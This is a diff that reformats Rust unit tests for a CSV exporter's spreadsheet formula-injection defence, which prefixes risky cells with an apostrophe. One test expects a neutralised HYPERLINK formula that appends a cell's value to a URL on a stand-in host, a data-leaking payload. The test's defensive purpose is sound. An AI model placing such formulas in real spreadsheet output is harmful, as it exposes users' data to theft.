@@ -167,7 +167,16 @@ mod tests {
             written(&[attack]),
             "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"klik hier\"\")\"\n"
         );
-        for cell in ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "+"] {
+        for cell in [
+            "=1+1",
+            "+31 6 1234",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "-",
+            "+",
+        ] {
             let out = neutralise(cell);
             assert_eq!(out, format!("'{cell}"), "{cell:?}");
             assert!(written(&[cell]).starts_with("\"'"), "{cell:?} is quoted");
@@ -176,11 +185,24 @@ mod tests {
 
     #[test]
     fn numbers_and_plain_text_are_left_alone() {
-        for cell in ["-3.2", "-1.5", "+12", "7", "0.5", "3.", "Goed geholpen", "", "'s-Hertogenbosch"] {
+        for cell in [
+            "-3.2",
+            "-1.5",
+            "+12",
+            "7",
+            "0.5",
+            "3.",
+            "Goed geholpen",
+            "",
+            "'s-Hertogenbosch",
+        ] {
             let expect_number = matches!(cell, "-3.2" | "-1.5" | "+12" | "7" | "0.5");
             assert_eq!(is_number(cell), expect_number, "{cell:?}");
         }
-        assert_eq!(written(&["-3.2", "7", "", "Goed geholpen"]), "-3.2,7,,Goed geholpen\n");
+        assert_eq!(
+            written(&["-3.2", "7", "", "Goed geholpen"]),
+            "-3.2,7,,Goed geholpen\n"
+        );
         assert_eq!(neutralise("'s-Hertogenbosch"), "'s-Hertogenbosch");
         assert_eq!(restore("'s-Hertogenbosch"), "'s-Hertogenbosch");
         // Not numbers: a spreadsheet could still compute these.
